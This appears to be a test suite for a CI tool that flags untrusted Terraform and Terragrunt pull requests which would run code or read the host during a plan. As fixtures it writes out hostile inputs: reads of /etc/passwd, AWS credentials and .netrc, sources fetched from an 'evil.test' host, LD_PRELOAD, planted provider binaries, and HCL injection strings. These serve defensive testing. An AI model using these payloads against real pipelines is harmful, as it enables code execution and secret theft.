"""Pull requests that try to run code in a plan, or to read this machine by it: none gets through
`--untrusted`, whether it brings the code or only steers what stands there.
"""

from __future__ import annotations

from collections.abc import Mapping

import pytest

from infra.region import PLAIN, RDS, VPC, Region
from trunkline.core.infra.code import brought, new_providers, standing
from trunkline.core.infra.discover import discover_units
from trunkline.core.infra.reading import Files
from trunkline.core.snapshot import FilesSnapshot

DEEP = "/".join("abcdefgh")
# Where a unit seems to lie, to whom looks at its code without knowing the machine.
PLACE = "/@repository" + "/d" * 60

# What a change adds to a repository without any of it; the file, its text, what is told of it.
BROUGHT: dict[str, tuple[str, str, str]] = {
    "a credential helper of a provider": (
        "a/x.tf",
        'provider "kubernetes" {\n  exec { command = "./evil" }\n}',
        "exec of provider kubernetes",
    ),
    "a profile that names a process": (
        "a/x.tf",
        'provider "aws" { shared_config_files = ["./aws.cfg"] }',
        "configuration of provider aws",
    ),
    "a library that is loaded first": (
        "a/x.hcl",
        'terraform {\n  extra_arguments "x" {\n    env_vars = { LD_PRELOAD = "./x.so" }\n  }\n}',
        "extra_arguments x",
    ),
    "keys of a state from a program": (
        "a/x.tf",
        'terraform {\n  encryption {\n    key_provider "external" "x" { command = [] }\n  }\n}',
        "encryption",
    ),
    "a chart that is rendered by a program": (
        "a/x.tf",
        'resource "helm_release" "x" {\n  postrender { binary_path = "./evil" }\n}',
        "postrender",
    ),
    "the same, put together": (
        "a/x.tf",
        'resource "helm_release" "x" {\n  dynamic "postrender" {\n    for_each = [1]\n  }\n}',
        "dynamic postrender",
    ),
    "a state of somebody else": (
        "a/x.tf",
        'data "terraform_remote_state" "x" { backend = "local" }',
        "data terraform_remote_state x",
    ),
    "a file, as data": ("a/x.tf", 'data "local_file" "x" { filename = "/x" }', "data local_file x"),
    "an escaped name": ("a/x.tf", 'data "ext\\u0065rnal" "x" { a = ["id"] }', "data external x"),
    "another backend": ("a/x.tf", 'terraform {\n  backend "http" {}\n}', "backend http"),
    "outputs of another unit": ("a/x.hcl", 'dependency "x" { path = "../x" }', "dependency x"),
    "one more output of another unit": (
        "a/x.hcl",
        "inputs = { x = upper(dependency.x.outputs.password) }",
        "what dependency.x.outputs.password says",
    ),
    "one of a state that is read already": (
        "a/x.tf",
        'output "x" { value = "${data.terraform_remote_state.x.outputs.password}" }',
        "what data.terraform_remote_state.x.outputs.password says",
    ),
    "a variable of the machine": ("a/x.hcl", 'inputs = { x = get_env("HTTPS_PROXY") }', "get_env"),
    "a mask that is taken off": (
        "a/x.tf",
        'output "x" { value = nonsensitive(random_password.x.result) }',
        "nonsensitive",
    ),
    "a template in a value": (
        "a/x.tf",
        'output "x" { value = templatestring(local.x, {}) }',
        "function templatestring",
    ),
    "a function of a provider": (
        "a/x.tf",
        'output "x" { value = provider::shell::run("id") }',
        "function provider::shell::run",
    ),
    "a comment before the bracket": (
        "a/x.tf",
        'output "x" { value = file/* */("/etc/passwd") }',
        "file of a file elsewhere",
    ),
    "up from a parent that lies high": (
        f"{DEEP}/x.hcl",
        'inputs = { x = file("${find_in_parent_folders("root.hcl")}/../../../../etc/passwd") }',
        "file of a file elsewhere",
    ),
    "up from a root module that lies high": (
        f"{DEEP}/x.tf",
        'output "x" { value = file("${path.root}/../../../etc/passwd") }',
        "file of a file elsewhere",
    ),
    "up from where a module is copied to": (
        f"{DEEP}/x.tf",
        'output "x" { value = file("${path.module}/../../../etc/passwd") }',
        "file of a file elsewhere",
    ),
    "a file of the user's, found by its name": (
        "a/x.hcl",
        'inputs = { x = file(find_in_parent_folders(".netrc")) }',
        "file of a file elsewhere",
    ),
    "code in a file of another name": (
        "a/x.hcl",
        'locals { x = read_terragrunt_config("notes.txt") }',
        "read_terragrunt_config of another file",
    ),
    "an include of another name": (
        "a/x.hcl",
        'include "x" { path = "notes.txt" }',
        "include x of another file",
    ),
    "a template that reads files": (
        "a/x.tpl",
        'x: ${file("/root/.aws/credentials")}',
        "a template that reads files",
    ),
    "a unit of a stack from elsewhere": (
        "a/terragrunt.stack.hcl",
        'unit "x" {\n  source = "git::https://evil.test/x"\n  path = "x"\n}',
        "unit x from elsewhere",
    ),
    "a unit of a stack in the user's home": (
        "a/terragrunt.stack.hcl",
        'unit "x" {\n  source = "../x"\n  path = "../../../../root/x"\n}',
        "unit x made elsewhere",
    ),
    "a source that is chosen by where the unit lies": (
        "a/x.hcl",
        'terraform {\n  source = get_repo_root() == "/x" ? "git::https://evil.test/x" : "../m"\n}',
        "terraform from elsewhere",
    ),
    "one that is looked up by it": (
        "a/x.hcl",
        f'terraform {{ source = lookup({{"{PLACE}" = "../m"}}, get_terragrunt_dir(), "evil") }}',
        "terraform from elsewhere",
    ),
    "one that is tried first": (
        "a/x.hcl",
        "terraform { source = try(local.evil, get_repo_root()) }",
        "terraform from elsewhere",
    ),
    "a file that is chosen by where the module lies": (
        "a/x.tf",
        'output "x" { value = file(lookup({"/@repository" = "x"}, path.module, "/etc/passwd")) }',
        "file of a file elsewhere",
    ),
    "generated code, as a value": ("a/x.hcl", 'generate = { x = { path = "x.tf" } }', "generate"),
    "where it is downloaded to": ("a/x.hcl", 'download_dir = "/root/.ssh"', "download_dir"),
    "a provider, as a file that programs look for": (
        "a/terraform.d/plugins/registry.opentofu.org/hashicorp/null/9.9.9/linux_amd64/x",
        "#!/bin/sh",
        "settings of a program",
    ),
    "modules that were installed before": (
        "a/.terraform/modules/modules.json",
        "{}",
        "settings of a program",
    ),
    "a copy that was made before": ("a/.terragrunt-cache/x/y/x.tf", "", "settings of a program"),
    "which version of a program runs": ("a/.opentofu-version", "1", "settings of a program"),
    "a repository in the repository": ("a/HEAD", "ref: x", "settings of a program"),
    "Terragrunt as JSON": ("a/terragrunt.hcl.json", "{}", "it is code in JSON"),
    "what is not known yet": ("a/x.tf", 'action "run_it" "x" {}', "action run_it x"),
    "what only looks like text": (
        "a/x.tf",
        '# <<EOT\ny = 1 /* provisioner "local-exec" {} */\n',
        "the word provisioner",
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", BROUGHT)
def test_what_a_change_brings_is_seen(name: str) -> None:
    path, text, what = BROUGHT[name]
    before, after = Files(FilesSnapshot({})), Files(FilesSnapshot({path: text}))
    told = [one.what for one in brought(before, after, [path])]
    assert any(one.startswith(what) for one in told), told


HIDDEN = {
    "by ends of line": ("x = <<EOT\r\na\r\nEOT\r\n", "y = <<EOT\nEOT\n"),
    "by a space of another kind": ("x = <<EOT\na\n\x0bEOT\xa0\n", "y = <<EOT\nEOT\n"),
    "by a text within a text": ("x = <<EOT\n${<<IN\nEOT\n/*\nIN\n}\nEOT\n", "# */\n"),
    "by an escaped opening": ("x = <<EOT\n$${\nEOT\n", "# }\n"),
}


@pytest.mark.parametrize("name", HIDDEN)
def test_no_text_hides_code_that_the_programs_see(name: str) -> None:
    before, behind = HIDDEN[name]
    text = f'{before}data "external" "x" {{}}\n{behind}'
    (found,) = brought(Files(FilesSnapshot({})), Files(FilesSnapshot({"x.tf": text})), ["x.tf"])
    assert (found.what, found.line) == ("data external x", before.count("\n") + 1)


def test_providers_that_are_unpinned_are_told() -> None:
    lock = "a/.terraform.lock.hcl"
    (found,) = brought(Files(FilesSnapshot({lock: ""})), Files(FilesSnapshot({})), [lock])
    assert found.what == "it unpins providers"


PROVIDER = 'terraform {\n  backend "s3" {}\n}\nprovider "aws" { region = var.region }\n'
GENERATE = """\
generate "x" {
  path     = "x.tf"
  contents = <<EOT
provider "aws" {
  WHAT
}
EOT
}
"""
EVIL = r'"\"\n}\ndata \"external\" \"x\" {"'
ROOT = GENERATE.replace("WHAT", 'region = "${local.region}"')
REGION = """\
locals {
  region = read_terragrunt_config("${get_terragrunt_dir()}/region.hcl").locals.name
}
"""
UNIT = 'include "root" { path = find_in_parent_folders("root.hcl") }\nterraform { source = "../m" }'
DEPENDS = 'terraform { source = "../m" }\ndependency "b" { config_path = "../b" }'

# Repositories in which a value, or a file of another kind, decides what stands in a unit's code.
STEERED: dict[str, tuple[Mapping[str, str], str]] = {
    "a script that a data source runs": (
        {"a/x.tf": f'{PROVIDER}data "external" "x" {{ program = ["./x.sh"] }}', "a/x.sh": "id"},
        "data external x",
    ),
    "a value in generated code that nobody knows": (
        {"root.hcl": ROOT, "a/terragrunt.hcl": UNIT, "m/x.tf": ""},
        "generate x",
    ),
    "a value in generated code that is code": (
        {
            "root.hcl": REGION + ROOT,
            "a/region.hcl": 'locals { name = "eu\\"\\n}\\ndata \\"external\\" \\"x\\" {" }',
            "a/terragrunt.hcl": UNIT,
            "m/x.tf": "",
        },
        "generate x",
    ),
    **{
        f"a word that is only one {name}": (
            {
                "root.hcl": f"locals {{\n  evil = {EVIL}\n  region = {value}\n}}\n{ROOT}",
                "a/terragrunt.hcl": UNIT,
                "m/x.tf": "",
                "x.hcl.json": "{}",
            },
            "generate x",
        )
        for name, value in {
            "here, by the place": 'get_repo_root() == "/@repository" ? "eu" : local.evil',
            "here, by what is looked up": 'lookup({"/@repository" = "eu"}, get_repo_root(), "a b")',
            "here, by what is taken": '{"/@repository" = "eu"}[get_repo_root()]',
            "as long as the first is not known": 'try(title(local.evil), "eu")',
            "in a file that is not read here": (
                'read_terragrunt_config("${get_repo_root()}/x.hcl.json", {x = "eu"}).x'
            ),
        }.items()
    },
    "a value that says where generated code is written": (
        {
            "root.hcl": REGION
            + 'generate "x" {\n  path = "${local.region}.tf"\n  contents = ""\n}',
            "a/region.hcl": 'locals { name = "../../../../root/x" }',
            "a/terragrunt.hcl": UNIT,
            "m/x.tf": "",
        },
        "generate x",
    ),
    "the same, of a backend": (
        {
            "root.hcl": REGION + 'remote_state {\n  backend = "s3"\n  config = {}\n'
            '  generate = { path = "${local.region}.tf", if_exists = "overwrite" }\n}',
            "a/region.hcl": 'locals { name = "../../../../root/x" }',
            "a/terragrunt.hcl": UNIT,
            "m/x.tf": "",
        },
        "remote_state",
    ),
    "the same, where it is filled in too": (
        {
            "root.hcl": REGION
            + GENERATE.replace("WHAT", 'region = "${local.region}"').replace("x.tf", "${local.p}"),
            "a/region.hcl": 'locals { name = "eu" }',
            "a/terragrunt.hcl": UNIT,
            "m/x.tf": "",
        },
        "generate x",
    ),
    "a word that chooses a kind": (
        {
            "root.hcl": REGION + GENERATE.replace("WHAT", 'data "${local.region}" "x" {}'),
            "a/region.hcl": 'locals { name = "external" }',
            "a/terragrunt.hcl": UNIT,
            "m/x.tf": "",
        },
        "generate x",
    ),
    "a word that chooses a source": (
        {
            "root.hcl": REGION + GENERATE.replace("WHAT", 'source = "./${local.region}"'),
            "a/region.hcl": 'locals { name = "evil" }',
            "a/terragrunt.hcl": UNIT,
            "m/x.tf": "",
        },
        "generate x",
    ),
    "a script of a hook": (
        {
            "root.hcl": 'terraform {\n  before_hook "x" { execute = ["./x.sh"] }\n}',
            "a/terragrunt.hcl": UNIT,
            "m/x.tf": "",
        },
        "before_hook x",
    ),
    "a value that a module from elsewhere gets": (
        {"a/x.tf": f'{PROVIDER}module "x" {{\n  source = "acme/x/aws"\n  name = var.name\n}}'},
        "module x from elsewhere",
    ),
    "a name that chooses a file": (
        {"a/x.tf": f'{PROVIDER}locals {{ x = file("${{path.module}}/${{var.name}}.json") }}'},
        "file of a file elsewhere",
    ),
    "a command of the unit whose outputs it reads": (
        {
            "a/terragrunt.hcl": DEPENDS,
            "b/terragrunt.hcl": 'locals { x = run_cmd("./x.sh") }\nterraform { source = "../m" }',
            "m/x.tf": "",
        },
        "run_cmd",
    ),
    "a configuration of a provider that lies in the repository": (
        {"a/x.tf": f'{PROVIDER}provider "aws" {{ shared_config_files = ["./x.cfg"] }}'},
        "configuration of provider aws",
    ),
    **{
        f"an address at which a provider calls, {name}": (
            {"a/x.tf": f'{PROVIDER}provider "google" {{\n  {body}\n}}'},
            "configuration of provider google",
        )
        for name, body in {
            "as an argument": "storage_custom_endpoint = var.region",
            "put together": 'base_url = "https://${var.region}.corp.test"',
            "in a block": "endpoints {\n    s3 = local.region\n  }",
            "in a map": "endpoints = { s3 = local.region }",
            "in blocks that are made": (
                'dynamic "endpoints" {\n    for_each = var.all\n    content { s3 = "a" }\n  }'
            ),
        }.items()
    },
    "an inner stack": (
        {
            "a/terragrunt.stack.hcl": 'unit "x" {\n  source = "../u"\n  path = "x"\n}',
            "a/deep/terragrunt.stack.hcl": 'locals { x = run_cmd("id") }',
            "u/terragrunt.hcl": 'terraform { source = "../m" }',
            "m/x.tf": "",
        },
        "run_cmd",
    ),
}

# Repositories in which code is taken from outside of them, and comes in again on a checkout whose
# folder is known, or in a copy that Terragrunt makes.
AWAY: dict[str, tuple[Mapping[str, str], str]] = {
    "a module": (
        {"a/x.tf": f'{PROVIDER}module "m" {{ source = "../../tree/m" }}', "m/x.tf": ""},
        "module m out of the repository",
    ),
    "a module of a module": (
        {
            "a/x.tf": f'{PROVIDER}module "m" {{ source = "../m" }}',
            "m/x.tf": 'module "n" { source = "../../tree/n" }',
        },
        "module n out of the repository",
    ),
    "the source of a unit": (
        {"a/terragrunt.hcl": 'terraform { source = "../../tree//m" }', "m/x.tf": ""},
        "terraform out of the repository",
    ),
    "a module that is not copied": (
        {
            "a/terragrunt.hcl": 'terraform { source = "..//m" }\n',
            "a/x.tf": 'module "x" { source = "../nice" }',
            "nice/x.tf": "",
            "m/x.tf": "",
        },
        "module x out of the folder that is copied",
    ),
    "a module beside the folder that is copied": (
        {
            "a/terragrunt.hcl": 'terraform { source = "../s//m" }\n',
            "s/m/x.tf": 'module "x" { source = "../../nice" }',
            "nice/x.tf": "",
        },
        "module x out of the folder that is copied",
    ),
    "an include": (
        {
            "a/terragrunt.hcl": 'include "x" { path = "../../tree/x.hcl" }\n',
            "a/x.tf": "",
            "x.hcl": "",
        },
        "include x out of the repository",
    ),
    "an include that is looked for above": (
        {
            "a/terragrunt.hcl": 'include "x" { path = find_in_parent_folders("tree/x.hcl") }\n',
            "a/x.tf": "",
            "x.hcl": "",
        },
        "include x out of the repository",
    ),
    "a file that is read": (
        {
            "a/terragrunt.hcl": 'inputs = read_terragrunt_config("../../tree/x.hcl").inputs\n',
            "a/x.tf": "",
            "x.hcl": "",
        },
        "read_terragrunt_config out of the repository",
    ),
    "a file that a file reads": (
        {
            "a/terragrunt.hcl": 'inputs = read_terragrunt_config("../x.hcl").locals\n',
            "a/x.tf": "",
            "x.hcl": 'locals { y = read_terragrunt_config("../tree/y.hcl") }',
        },
        "read_terragrunt_config out of the repository",
    ),
    "a unit of a stack": (
        {
            "s/terragrunt.stack.hcl": 'unit "x" {\n  source = "../u"\n  path = "x"\n}\n'
            'unit "y" {\n  source = "../../tree/v"\n  path = "y"\n}',
            "u/terragrunt.hcl": 'terraform { source = "${get_repo_root()}/m" }',
            "m/x.tf": "",
        },
        "unit y out of the repository",
    ),
    "a unit of a file that a stack includes": (
        {
            "s/terragrunt.stack.hcl": 'include "x" { path = "x.hcl" }\n',
            "s/x.hcl": 'unit "x" {\n  source = "../u"\n  path = "x"\n}\n'
            'unit "y" {\n  source = "../../tree/v"\n  path = "y"\n}',
            "u/terragrunt.hcl": 'terraform { source = "${get_repo_root()}/m" }',
            "m/x.tf": "",
        },
        "unit y out of the repository",
    ),
    "what a stack includes": (
        {
            "s/terragrunt.stack.hcl": 'include "y" { path = "../../tree/x.hcl" }\n'
            'unit "x" {\n  source = "../u"\n  path = "x"\n}\n',
            "u/terragrunt.hcl": 'terraform { source = "${get_repo_root()}/m" }',
            "m/x.tf": "",
        },
        "include y out of the repository",
    ),
    "an inner stack, made higher than it lies": (
        {
            "terragrunt.stack.hcl": 'stack "i" {\n  source = "./a/b/c/i"\n  path = "i"\n}\n'
            'unit "u" {\n  source = "./u"\n  path = "u"\n}',
            "a/b/c/i/terragrunt.stack.hcl": (
                'unit "x" {\n  source = "../../../tree/v"\n  path = "x"\n}'
            ),
            "u/terragrunt.hcl": 'terraform { source = "${get_repo_root()}/m" }',
            "m/x.tf": "",
        },
        "unit x out of the repository",
    ),
}

# Repositories of which forks may well change values.
FREE: dict[str, Mapping[str, str]] = {
    "a provider that calls where it is written, in a region that is chosen": {
        "a/x.tf": f'{PROVIDER}provider "vault" {{\n  address = "https://vault.corp.test"\n}}'
    },
    "a value in generated code that is a word": {
        "root.hcl": REGION + ROOT,
        "a/region.hcl": 'locals { name = "eu-west-1" }',
        "a/terragrunt.hcl": UNIT,
        "m/x.tf": "",
    },
    "one that a condition of known values gives": {
        "root.hcl": 'locals {\n  region = path_relative_to_include() == "a" ? "eu" : "us"\n}\n'
        + ROOT,
        "a/terragrunt.hcl": UNIT,
        "m/x.tf": "",
    },
    "a plain module": {
        "a/x.tf": PROVIDER + 'module "x" { source = "../m" }\ndata "aws_ami" "x" { id = var.y }',
        "m/x.tf": 'resource "aws_vpc" "x" { tags = { x = jsonencode(var.x) } }',
        "m/y.tf": 'variable "x" { type = map(object({ y = optional(set(string), []) })) }',
    },
    "a module in the folder that is copied": {
        "live/a/terragrunt.hcl": 'terraform { source = "../../modules//m" }',
        "live/a/x.tf": 'module "y" { source = "./y" }',
        "live/a/y/x.tf": "",
        "modules/m/x.tf": 'module "n" { source = "../n" }',
        "modules/n/x.tf": "",
    },
    "a stack": {
        "s/terragrunt.stack.hcl": 'unit "x" {\n  source = "../u"\n  path = "x"\n'
        '  values = { m = "m" }\n}',
        "u/terragrunt.hcl": 'terraform { source = "${get_repo_root()}/m" }',
        "m/x.tf": "",
    },
    "a unit with a parent": {
        "root.hcl": 'remote_state {\n  backend = "s3"\n'
        "  config = { key = path_relative_to_include() }\n"
        '  generate = { path = "backend.tf", if_exists = "overwrite" }\n}\n'
        'terraform {\n  extra_arguments "x" {\n'
        "    commands = get_terraform_commands_that_need_locking()\n"
        '    arguments = ["-lock-timeout=20m"]\n  }\n}\n',
        "a/terragrunt.hcl": UNIT,
        "m/x.tf": "",
    },
}  # fmt: skip


@pytest.mark.parametrize("name", STEERED)
def test_what_a_change_could_steer_is_seen(name: str) -> None:
    tree, what = STEERED[name]
    files = Files(FilesSnapshot(tree))
    units = discover_units(files)
    told = [one.what for one in standing(files, units, units.units[0])]
    assert what in told


@pytest.mark.parametrize("name", AWAY)
def test_what_a_unit_takes_from_outside_is_seen(name: str) -> None:
    tree, what = AWAY[name]
    files = Files(FilesSnapshot(tree))
    units = discover_units(files)
    (unit,) = (one for one in units.units if one.path[-1] in "aux")
    told = [one.what for one in standing(files, units, unit)]
    assert what in told


@pytest.mark.parametrize("name", FREE)
def test_values_are_free_where_they_steer_nothing(name: str) -> None:
    files = Files(FilesSnapshot(FREE[name]))
    units = discover_units(files)
    assert [standing(files, units, one) for one in units.units] == [[]]


SETTINGS = "infra: {untrusted: vetted}\n"


async def begun(region: Region, files: Mapping[str, str]) -> Region:
    await region.begin(plain=True)
    region.repo.write({"trunkline.yaml": SETTINGS, **files}).commit()
    return region


async def error_of(region: Region, *, trusted: bool = False) -> str:
    async with await region.app(trusted=trusted) as app:
        (plain,) = (await app.plan_infra("HEAD~1", "HEAD", keep=False)).units
    return plain.error


async def test_a_script_that_stands_there_is_not_run_as_it_is_changed(region: Region) -> None:
    mark = region.states.parent / "ran"
    data = 'data "external" "x" {\n  program = ["sh", "${path.module}/x.sh"]\n}\n'
    await begun(region, {"plain/data.tf": data, "plain/x.sh": "echo {}"})
    region.repo.write({"plain/x.sh": f"touch {mark}; echo {{}}"}).commit()
    told = await error_of(region)
    assert told == (
        "a change from outside could steer what its plan runs: data external x (plain/data.tf:1)"
    )
    assert not mark.exists()


async def test_a_link_leads_nowhere(region: Region) -> None:
    await begun(region, {})
    secret = region.states.parent / "secret"
    secret.write_text("hunter22-of-the-machine")
    (region.repo.path / "plain/x.json").symlink_to(secret)
    region.repo.write({"plain/more.tf": 'output "x" { value = file("${path.module}/x.json") }'})
    region.repo.commit()
    assert "a link (plain/x.json:1)" in await error_of(region)


async def test_code_behind_a_link_is_seen(region: Region) -> None:
    await begun(region, {"docs/m/main.tf": "# nothing"})
    (region.repo.path / "plain/m").symlink_to("../docs/m")
    region.repo.write({"plain/more.tf": 'module "m" { source = "./m" }'}).commit()
    region.repo.write({"docs/m/main.tf": 'data "external" "x" { program = ["id"] }'})
    region.repo.write({"plain/more.tf": '# again\nmodule "m" { source = "./m" }'}).commit()
    assert "data external x (docs/m/main.tf:1)" in await error_of(region)


async def test_no_commit_says_which_program_runs(region: Region) -> None:
    mark = region.states.parent / "ran"
    script = f'#!/bin/sh\ntouch {mark}\nexec tofu "$@"\n'
    binary = 'terraform_binary = "${get_terragrunt_dir()}/evil.sh"\n'
    region.repo.write({"live/vpc/evil.sh": script, "live/vpc/terragrunt.hcl": VPC + binary})
    (region.repo.path / "live/vpc/evil.sh").chmod(0o755)
    await region.begin()
    found = {one.unit: one for one in (await region.plan()).units}
    assert found["live/vpc"].status == "planned", found
    assert not mark.exists()


async def test_a_fork_may_change_a_value_of_a_unit_of_terragrunt(region: Region) -> None:
    await region.stand()
    region.repo.write({"trunkline.yaml": SETTINGS}).commit()
    region.repo.write({"live/vpc/terragrunt.hcl": VPC.replace("10.0", "10.9")}).commit()
    async with await region.app(trusted=False) as app:
        plan = await app.plan_infra("HEAD~1", "HEAD")
    (vpc, rds) = plan.units
    assert (vpc.unit, vpc.status, vpc.error) == ("live/vpc", "planned", "")
    assert (rds.unit, rds.status) == ("live/rds", "deferred")


async def test_it_may_not_have_the_outputs_of_another_unit_shown(region: Region) -> None:
    await region.stand()
    region.repo.write({"trunkline.yaml": SETTINGS}).commit()
    asks = RDS.replace("../vpc", "../other/../vpc")
    region.repo.write({"live/rds/terragrunt.hcl": asks}).commit()
    async with await region.app(trusted=False) as app:
        (rds,) = (await app.plan_infra("HEAD~1", "HEAD")).units
    assert "dependency vpc (live/rds/terragrunt.hcl:3)" in rds.error


def test_a_provider_that_only_a_resource_names_is_seen() -> None:
    aws = 'resource "aws_vpc" "x" {}\n'
    base = Files(FilesSnapshot({"a/x.tf": aws}))
    head = {"a/x.tf": aws, "b/x.tf": aws + 'resource "helm_release" "x" {}\n'}
    (found,) = new_providers(base, Files(FilesSnapshot(head)), ["b/x.tf"])
    assert (found.what, found.place) == ("provider helm", "provider helm (b/x.tf:2)")


async def test_no_file_of_the_commit_is_taken_for_a_provider(region: Region) -> None:
    mark = region.states.parent / "ran"
    await begun(region, {})
    place = "terraform.d/plugins/registry.opentofu.org/hashicorp/null/9.9.9/linux_amd64"
    provider = f"plain/{place}/terraform-provider-null_v9.9.9"
    region.repo.write({"plain/more.tf": 'resource "null_resource" "x" {}'})
    region.repo.write({provider: f"#!/bin/sh\ntouch {mark}\n"})
    (region.repo.path / provider).chmod(0o755)
    region.repo.commit()
    assert f"settings of a program ({provider}:1)" in await error_of(region)
    assert not mark.exists()


async def test_files_are_checked_out_as_they_were_looked_at(region: Region) -> None:
    """In IBM278 the letter c is a hash sign: what reads as a comment would be code on the disk."""
    await begun(region, {"plain/more.tf": "# a check"})
    region.repo.write({".gitattributes": "plain/more.tf working-tree-encoding=IBM278\n"})
    region.repo.write({"plain/main.tf": "# again\n" + PLAIN}).commit()
    assert "settings of a program (.gitattributes:1)" in await error_of(region)


async def test_what_a_fork_leaves_is_found_by_nobody(region: Region) -> None:
    await begun(region, {})
    region.repo.write({"plain/more.tf": 'output "x" { value = 1 }'}).commit()
    assert await error_of(region) == ""
    assert not (region.places.cache / "infra").exists()
    left = (region.places.cache / "infra-outside" / "checkouts").rglob("more.tf")
    assert [*left] == []
